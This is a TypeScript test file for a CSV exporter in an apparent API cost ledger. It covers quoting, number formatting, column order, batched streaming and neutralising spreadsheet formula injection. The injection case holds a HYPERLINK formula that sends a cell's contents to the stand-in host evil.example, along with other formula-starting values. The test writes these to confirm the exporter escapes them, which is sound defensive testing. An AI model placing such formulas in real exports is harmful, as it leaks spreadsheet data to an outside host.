import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ledgerRow } from '../../test/support/rows.js';
import { EXPORT_COLUMNS } from '../ledger/row.js';
import { csvCell, rowsToCsv, type CsvGetter } from './csv.js';

async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

type Case19 = { id: string; user: string; team: string; tags: string; endpoint: string };

const CASE_19_ROWS: (Case19 & { cost: number })[] = [
  {
    id: 'req_101',
    user: '=HYPERLINK("http://evil.example/x?d="&A1,"open")',
    team: '-2+3',
    tags: '+1+1',
    endpoint: '@SUM(A1:A2)',
    cost: 0.0125,
  },
  {
    id: 'req_102',
    user: '\r=1',
    team: '\t=1',
    tags: 'safe-tag',
    endpoint: '/v1/chat/completions',
    cost: 0,
  },
];

const CASE_19_GETTERS: Record<string, CsvGetter<Case19 & { cost: number }>> = {
  request_id: (r) => r.id,
  user: (r) => r.user,
  team: (r) => r.team,
  tags: (r) => r.tags,
  endpoint: (r) => r.endpoint,
  cost_usd: (r) => r.cost,
};

describe('csv export: formula injection (case 19)', () => {
  it('writes the exact bytes of the case', async () => {
    const columns = ['request_id', 'user', 'team', 'tags', 'endpoint', 'cost_usd'];

    const text = (await collect(rowsToCsv(CASE_19_ROWS, columns, CASE_19_GETTERS))).join('');

    expect(text).toBe(
      'request_id,user,team,tags,endpoint,cost_usd\r\n' +
        `req_101,"'=HYPERLINK(""http://evil.example/x?d=""&A1,""open"")",` +
        `'-2+3,'+1+1,'@SUM(A1:A2),0.0125\r\n` +
        `req_102,"'\r=1",'\t=1,safe-tag,/v1/chat/completions,0\r\n`,
    );
  });

  it('never prefixes a number, even a negative one', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(-5n)).toBe('-5');
    expect(csvCell('-5')).toBe("'-5");
  });
});

describe('csv export: cells', () => {
  it('writes null as an empty cell and numbers without exponents', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(1e-7)).toBe('0.0000001');
    expect(csvCell(true)).toBe('true');
  });

  it('reads back identically with csv-parse, apart from the documented apostrophe', async () => {
    const values = [
      'say "hi"',
      'a,b',
      'line1\nline2',
      'cr\r\nlf',
      'Zürich 東京 🚀',
      '=1+1',
      '+x',
      '-y',
      '@z',
      '\tt',
      'plain',
      '',
    ];
    const rows = values.map((user, i) =>
      ledgerRow(`r${i}`, 1_767_225_600_000, { user, costPico: 100n, tags: { note: user } }),
    );

    const text = (await collect(rowsToCsv(rows))).join('');
    const parsed = parse(text, { columns: true }) as Record<string, string>[];

    const unprefix = (s: string): string => (/^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);
    expect(parsed.map((r) => unprefix(r.user ?? ''))).toEqual(values);
    expect(parsed.map((r) => JSON.parse(r.tags ?? '') as unknown)).toEqual(
      values.map((note) => ({ note })),
    );
    expect(parsed[0]?.cost_usd).toBe('0.0000000001');
    expect(Object.keys(parsed[0] ?? {})).toEqual([...EXPORT_COLUMNS]);
  });

  it('writes a ledger row in the spec column order', async () => {
    const row = ledgerRow('req_1', Date.UTC(2026, 0, 2, 3, 4, 5), {
      costPico: 25_200_000_000n,
      flags: ['price_alias', 'estimated_usage'],
      tags: { project: 'x' },
      resolvedModel: null,
    });

    const [chunk] = await collect(rowsToCsv([row]));

    expect(chunk?.split('\r\n')[1]).toBe(
      'req_1,2026-01-02T03:04:05.000Z,acme,search,alice,/v1/chat/completions,openai,openai,' +
        'gpt-4o,,200,allow,,false,100,0,0,50,0,0.0252,provider,config,' +
        'price_alias;estimated_usage,10,"{""project"":""x""}"',
    );
  });

  it('writes a null cost as an empty cell, not 0', async () => {
    const [chunk] = await collect(rowsToCsv([ledgerRow('u', 0, { costPico: null })]));

    expect(chunk?.split('\r\n')[1]?.split(',')[19]).toBe('');
  });
});

describe('csv export: streaming', () => {
  it('yields the header with the first 500 rows, then batches of 500', async () => {
    async function* rows() {
      for (let i = 0; i < 1_200; i++) yield ledgerRow(`r${i}`, i);
    }

    const chunks = await collect(rowsToCsv(rows()));

    expect(chunks.map((c) => c.split('\r\n').length - 1)).toEqual([501, 500, 200]);
  });

  it('writes only the header for no rows', async () => {
    expect(await collect(rowsToCsv([], ['a'], { a: () => 1 }))).toEqual(['a\r\n']);
  });

  it('rejects a column without a getter', () => {
    expect(() => rowsToCsv([], ['nope'], {})).toThrow('no CSV getter for column "nope"');
  });
});
